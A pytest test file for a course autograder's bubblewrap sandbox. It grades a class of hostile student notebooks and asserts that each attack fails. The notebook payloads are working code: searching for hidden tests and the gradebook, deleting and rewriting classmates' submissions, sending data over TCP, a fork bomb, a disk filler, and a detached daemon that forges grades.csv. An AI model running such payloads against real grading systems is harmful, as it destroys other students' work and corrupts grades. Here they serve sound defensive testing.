"""Hostile submissions, graded end to end by `tokbook grade` with each kernel in a sandbox.

One class of the UTF-8 exercise, graded once in one nbgrader run (``--workers 1``, so every
submission shares a course folder with the others, as in a real batch). Each hostile student
solved the exercise and added one cell that tries something; each attack prints what it got,
and the test reads that from the feedback page. The honest students come last in the batch, after
every attack, and must get their usual grades.

The same class graded with ``--sandbox none`` (``make_class`` is importable for that) gives the
table of what each attack achieves without the sandbox, in the instructor guide.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import re
import shutil
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from tokbook.cli import main
from tokbook.course import sandbox
from tokbook.course.notebook import fill_solutions, model_solutions, tasks_and_points
from tokbook.course.release import source_notebook
from tokbook.course.sandbox import DISK_BYTES, MAX_PROCESSES, bwrap_problem

ROOT = Path(__file__).resolve().parents[1]
STEM = "utf8"
TIMEOUT = 2
FORK_CAP = 300  # the fork bomb stops by itself there (it is also run without a sandbox)
DISK_CAP_MB = 512  # likewise for the disk filler

SOURCE = source_notebook(ROOT / "solutions" / STEM / f"{STEM}.md")
RELEASE = nbformat.read(ROOT / "exercises" / STEM / f"{STEM}.ipynb", as_version=4)
MAX = str(round(sum(tasks_and_points(SOURCE)[1].values())))  # the exercise's full marks
SOLUTIONS = model_solutions(SOURCE)

# Each attack prints "ATTACK <name>: <what it got>" (written so that its source does not match). They run in the folder nbgrader executes the
# notebook in (autograded/<student>/utf8 of the batch's course) when there is no sandbox.
READ_HIDDEN = """\
from pathlib import Path
here = Path.cwd()
marker = "BEGIN HIDDEN" + " TESTS"  # not this cell's own source
leaks = []
for folder in [here, *here.parents][:8]:
    for pattern in ("source/*/*.ipynb", "courses/*/source/*/*.ipynb", "gradebook.db", "courses/*/gradebook.db"):
        for path in folder.glob(pattern):
            try:
                if marker.encode() in path.read_bytes():
                    leaks.append(str(path))
            except OSError:
                pass
print("ATTACK", "read-hidden-tests:", f"GOT {len(leaks)} files: {leaks[:3]}" if leaks else "nothing found")
mine = [p for p in here.glob("*.ipynb")]
print("ATTACK", "own-notebook:", "HAS THE HIDDEN TESTS" if any(marker in p.read_text() for p in mine)
      else "is the submission (no hidden tests)" if mine else "not found")
"""
CLASSMATES = """\
from pathlib import Path
here = Path.cwd()
others = []
for folder in [here, *here.parents][:6]:
    others += [p for p in folder.glob("submitted/*/*/*.ipynb") if p.parent.parent.name != here.parent.name]
read = rewritten = deleted = 0
for i, path in enumerate(sorted(set(others))):
    try:
        text = path.read_text()
        read += 1
        if i == 0:
            path.unlink()
            deleted += 1
        else:
            path.write_text(text.replace("def ", "def_ "))
            rewritten += 1
    except OSError:
        pass
print("ATTACK", "classmates:", f"read {read}, rewrote {rewritten}, deleted {deleted}" if read else "nothing found")
"""
TCP = """\
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"stolen answers")
    print("ATTACK", "tcp: CONNECTED and sent")
except OSError as exc:
    print("ATTACK", "tcp: blocked", exc)
"""
FORK = f"""\
import ctypes, os, time
libc = ctypes.CDLL(None)
forked, why = 0, "stopped at the cap"
try:
    while forked < {FORK_CAP}:
        if os.fork() == 0:
            libc.prctl(15, b"tbk-fork", 0, 0, 0)
            time.sleep(30)
            os._exit(0)
        forked += 1
except OSError as exc:
    why = str(exc)
print("ATTACK", "fork:", forked, "processes;", why)
"""
DISK = f"""\
import os
written, why = 0, "stopped at the cap"
try:
    with open("filler.bin", "wb") as f:
        while written < {DISK_CAP_MB}:
            f.write(b"x" * 2**20)
            f.flush()
            written += 1
except OSError as exc:
    why = str(exc)
os.remove("filler.bin")
print("ATTACK", "disk:", written, "MB;", why)
"""
EXIT = "import os\nos._exit(3)\n"
# A thread that outlives its cell starts a process that outlives the notebook, which waits for
# grades.csv and gives its student full marks.
BACKGROUND = """\
import ctypes, os, re, threading, time
from pathlib import Path

def detach():
    folders = list(Path.cwd().parents)  # the grading folder is gone by the time grades.csv is written
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"tbk-daemon", 0, 0, 0)
            deadline = time.time() + 60
            while time.time() < deadline:
                for folder in folders:
                    grades = folder / "grades.csv"
                    try:
                        text = grades.read_text()
                        forged = re.sub(r"(?m)^gus,utf8,0[,.0]*,", "gus,utf8,99,99,99,99,99,99,", text)
                        if forged != text:
                            grades.write_text(forged)
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    os.wait()

threading.Thread(target=lambda: (time.sleep(0.3), detach()), daemon=True).start()
print("ATTACK", "background: started")
"""

# student -> (total, problem) when every attack fails
CLASS_EXPECTED = {
    "ada": (MAX, ""), "ben": (MAX, ""), "cal": (MAX, ""), "dan": (MAX, ""), "eve": (MAX, ""),
    "fay": ("0", "the kernel died while running the notebook (os._exit, a crash, or out of memory)"),
    "gus": ("0", ""), "hal": (MAX, ""), "yan": ("6", ""), "zoe": (MAX, ""),
}
# hal solves task 1 with what it forbids: full marks, and a flag
FORBIDDEN = "def encode_codepoint(cp):\n    return chr(cp).encode('utf-8')\n"


def _notebook(tasks: list[str], attack: str | None, answers: dict[str, str] | None = None) -> bytes:
    nb = fill_solutions(RELEASE, SOLUTIONS, tasks, answers)
    if attack:
        cell = nbformat.v4.new_code_cell(attack)
        cell.id = "attack"
        nb.cells.insert(2, cell)
    return nbformat.writes(nb).encode("utf-8")


def make_class(port: int) -> dict[str, bytes]:
    """File name -> notebook: the hostile students first (nbgrader grades in that order), then two honest."""
    tasks = list(SOLUTIONS)
    return {
        "ada_utf8.ipynb": _notebook(tasks, READ_HIDDEN),
        "ben_utf8.ipynb": _notebook(tasks, CLASSMATES),
        "cal_utf8.ipynb": _notebook(tasks, TCP.format(port=port)),
        "dan_utf8.ipynb": _notebook(tasks, FORK),
        "eve_utf8.ipynb": _notebook(tasks, DISK),
        "fay_utf8.ipynb": _notebook(tasks, EXIT),
        "gus_utf8.ipynb": _notebook([], BACKGROUND),
        "hal_utf8.ipynb": _notebook(tasks, None, {"encode_codepoint": FORBIDDEN}),
        "yan_utf8.ipynb": _notebook(tasks[:2], None),
        "zoe_utf8.ipynb": _notebook(tasks, None),
    }


def _listen() -> tuple[socket.socket, list[bytes]]:
    """A TCP listener on 127.0.0.1 that records what every connection sends."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received: list[bytes] = []

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    received.append(b"connected:" + conn.recv(100))
                except OSError:
                    received.append(b"connected")

    threading.Thread(target=serve, daemon=True).start()
    return server, received


def _processes_named(prefix: str) -> list[int]:
    found = []
    for comm in Path("/proc").glob("[0-9]*/comm"):
        try:
            if comm.read_text().startswith(prefix):
                found.append(int(comm.parent.name))
        except OSError:
            continue
    return found


def _grade(folder: Path, out: Path, *extra: str) -> str:
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        assert main(["grade", str(folder), "--out", str(out), "--course", str(ROOT), "--timeout", str(TIMEOUT),
                     *extra]) == 0
    return printed.getvalue()


needs_bwrap = pytest.mark.skipif(bool(bwrap_problem()), reason=f"no sandbox here: {bwrap_problem()}")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    server, received = _listen()
    folder = tmp_path_factory.mktemp("hostile")
    for name, data in make_class(server.getsockname()[1]).items():
        (folder / name).write_bytes(data)
    out = tmp_path_factory.mktemp("graded")
    log = _grade(folder, out, "--workers", "1", "--sandbox", "bwrap")
    csv_right_after = (out / "grades.csv").read_text()
    time.sleep(1)  # time enough for a process left behind to act
    server.close()
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))
            if r["student"] != "Points Possible"}
    pages = {s: html.unescape((out / "feedback" / STEM / f"{s}.html").read_text()) for s in rows}
    return {"log": log, "rows": rows, "pages": pages, "received": received, "out": out,
            "csv_right_after": csv_right_after, "folder": folder}


def _said(page: str, attack: str) -> str:
    found = re.findall(rf"ATTACK {attack}: ([^\n<]*)", page)
    assert len(found) == 1, (attack, found)
    return found[0]


@needs_bwrap
def test_every_grade_is_what_the_notebook_earned(graded):
    assert {s: (r["total"], r["problem"]) for s, r in graded["rows"].items()} == CLASS_EXPECTED
    assert "not isolated" not in graded["log"]


@needs_bwrap
def test_a_forbidden_call_is_flagged_and_costs_nothing(graded):
    assert graded["rows"]["hal"]["flags"] == "forbidden call in encode_codepoint: str.encode (chr(cp).encode)"
    assert [s for s, r in graded["rows"].items() if r["flags"]] == ["hal"]


@needs_bwrap
def test_hidden_tests_and_gradebook_are_out_of_reach(graded):
    # its own notebook is the one it handed in, without the hidden tests that nbgrader put back
    assert _said(graded["pages"]["ada"], "read-hidden-tests") == "nothing found"
    assert _said(graded["pages"]["ada"], "own-notebook") == "is the submission (no hidden tests)"


@needs_bwrap
def test_classmates_cannot_be_read_rewritten_or_deleted(graded):
    assert _said(graded["pages"]["ben"], "classmates") == "nothing found"
    # the honest students, graded after ben in the same course folder, kept their grades (above)


@needs_bwrap
def test_no_connection_reaches_a_local_port(graded):
    said = _said(graded["pages"]["cal"], "tcp")
    assert said.startswith("blocked"), said
    assert graded["received"] == []


@needs_bwrap
def test_a_fork_bomb_stops_at_the_process_limit_and_dies_with_its_cell(graded):
    said = _said(graded["pages"]["dan"], "fork")
    forked = int(said.split()[0])
    assert 0 < forked < MAX_PROCESSES < FORK_CAP, said
    assert "Resource temporarily unavailable" in said
    assert _processes_named("tbk-fork") == []


@needs_bwrap
def test_filling_the_disk_stops_at_the_folder_size(graded):
    said = _said(graded["pages"]["eve"], "disk")
    megabytes = int(said.split()[0])
    assert 0 < megabytes <= DISK_BYTES // 2**20, said
    assert "No space left on device" in said


@needs_bwrap
def test_os_exit_costs_only_its_own_grade(graded):
    assert "kernel died" in graded["rows"]["fay"]["problem"]


@needs_bwrap
def test_a_process_left_running_cannot_rewrite_the_grades(graded):
    assert _said(graded["pages"]["gus"], "background") == "started"
    assert _processes_named("tbk-daemon") == []
    assert (graded["out"] / "grades.csv").read_text() == graded["csv_right_after"]
    assert graded["rows"]["gus"]["total"] == "0"


@needs_bwrap
def test_the_submissions_folder_is_untouched(graded):
    assert sorted(p.name for p in graded["folder"].iterdir()) == sorted(make_class(1))


def test_without_bubblewrap_grading_says_submissions_were_not_isolated(tmp_path, monkeypatch):
    """Cheap: a submission that is not valid JSON runs no nbgrader, but the warning and the summary are written."""
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / f"alice_{STEM}.ipynb").write_text("not a notebook")
    monkeypatch.setattr(sandbox, "bwrap_problem", lambda: "bubblewrap (bwrap) is not installed")
    log = _grade(tmp_path / "in", tmp_path / "out")
    assert "warning: submissions were not isolated: bubblewrap (bwrap) is not installed" in log
    assert "submissions were not isolated" in (tmp_path / "out" / "summary.html").read_text()
    with pytest.raises(SystemExit, match="bubblewrap sandbox was asked for, but bubblewrap \\(bwrap\\) is not installed"):
        _grade(tmp_path / "in", tmp_path / "out2", "--sandbox", "bwrap")


def test_sandbox_none_is_said_to_be_the_instructors_choice(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / f"alice_{STEM}.ipynb").write_text("not a notebook")
    log = _grade(tmp_path / "in", tmp_path / "out", "--sandbox", "none")
    assert "submissions were not isolated (the instructor chose no sandbox)" in log
    assert "(the instructor chose no sandbox)" in (tmp_path / "out" / "summary.html").read_text()


def test_the_kernel_gets_its_python_but_neither_the_course_nor_the_solutions(tmp_path):
    course = tmp_path / "course"
    course.mkdir()
    folders = [Path(p) for p in sandbox.python_folders(course)]
    assert Path(sys.prefix).resolve() in folders
    for folder in folders:
        assert not (folder == course or folder in course.parents or course in folder.parents), folder
        assert folder not in (ROOT / "solutions").parents, folder
    # a course inside the environment's folders takes those folders away
    assert Path(sys.prefix).resolve() not in [Path(p) for p in sandbox.python_folders(Path(sys.prefix) / "x")]


def test_the_kernel_gets_the_submitted_notebook_not_the_one_with_hidden_tests(tmp_path):
    course = tmp_path / "course"
    running = course / "autograded" / "s00000" / STEM
    submitted = course / "submitted" / "s00000" / STEM
    running.mkdir(parents=True)
    submitted.mkdir(parents=True)
    (running / f"{STEM}.ipynb").write_text("### BEGIN HIDDEN TESTS")
    (running / "data.txt").write_text("exercise data")
    (submitted / f"{STEM}.ipynb").write_text("as handed in")
    (submitted / "huge.ipynb").write_bytes(b"x" * (DISK_BYTES // 2 + 1))
    target = tmp_path / "files"
    sandbox._copy_student_files(running, target)
    assert sorted(p.name for p in target.iterdir()) == ["data.txt", f"{STEM}.ipynb"]
    assert (target / f"{STEM}.ipynb").read_text() == "as handed in"


def test_the_python_folders_are_bound_after_the_sandboxs_own_tmp(tmp_path):
    """A clone or a virtual environment under /tmp must stay visible inside the sandbox, whose own
    /tmp is an empty tmpfs: bwrap applies mounts in order, so the binds must come after it."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed, so there is no bwrap command to inspect")
    staging = sandbox.make_staging()
    try:
        spec = json.loads(sandbox.bwrap_command(["true"], staging=staging, course=tmp_path)[-1])
    finally:
        shutil.rmtree(staging)
    before = spec["args"][:spec["binds_at"]]
    assert before[-4:] == ["--size", str(1024 * 1024), "--tmpfs", sandbox.SOCKETS]
    assert "/tmp" in before and "--unshare-all" not in before
